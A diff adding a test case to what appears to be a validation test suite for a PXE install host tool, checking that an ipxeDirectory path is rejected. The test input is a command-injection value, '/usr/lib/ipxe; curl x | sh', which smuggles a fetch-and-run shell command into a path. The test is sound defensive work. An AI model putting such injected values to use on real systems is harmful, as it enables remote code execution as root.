@@ -701,6 +701,14 @@ describe("PxeInstallHost rejects bad input with one error and creates nothing", 
       ],
     },
     {
+      // It reaches a root shell command on the install host: only plain path segments.
+      name: "ipxedir",
+      args: { ipxeDirectory: "/usr/lib/ipxe; curl x | sh" },
+      message: [
+        '- ipxeDirectory: is not an absolute path of plain segments (got "/usr/lib/ipxe; curl x | sh"); use e.g. /usr/lib/ipxe: letters, digits and . _ + - between slashes, no . or .. segment',
+      ],
+    },
+    {
       name: "mode",
       args: { dhcpMode: "relay" as "full" },
       message: ['- dhcpMode: is not a DHCP mode (got "relay"); use full or proxy'],
